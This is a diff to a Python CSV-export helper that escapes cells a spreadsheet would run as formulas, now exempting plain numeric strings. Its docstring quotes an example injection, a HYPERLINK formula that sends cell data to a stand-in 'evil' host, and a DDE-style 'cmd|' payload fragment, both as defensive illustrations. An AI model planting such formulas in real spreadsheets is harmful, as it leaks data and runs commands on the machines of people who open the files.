@@ -4,18 +4,23 @@ A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return i
 read by Excel, WPS and LibreOffice as a formula: a name imported as
 ``=HYPERLINK("http://evil/?"&A1)`` would run on the auditor's desk. Such cells
 get a leading ``'`` (OWASP's advice), which spreadsheets show as text and do not
-display. Numbers are written as numbers; only strings are touched, so ``-3`` as
-an int stays a number while the string ``"-2+3+cmd|..."`` is neutralised.
+display. Numbers are written as numbers, and so is a string that is a plain
+number (``"-1.5"``: a spreadsheet reads it as the number it is, nothing runs);
+``"-2+3+cmd|..."`` is neutralised.
 """
 
 from __future__ import annotations
 
 import csv
+import re
 from collections.abc import Iterable
 from typing import Any, Protocol
 
 #: First characters that make a spreadsheet evaluate a cell.
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+#: A plain decimal number, harmless in any spreadsheet.
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")
 
 #: Written first, so Excel on Windows opens UTF-8 (Chinese) correctly.
 BOM = "\ufeff"
@@ -27,7 +32,7 @@ class _TextSink(Protocol):
 
 def safe_cell(value: Any) -> Any:
     """``value`` made inert for a spreadsheet (strings only; other types unchanged)."""
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
         return "'" + value
     return value
 
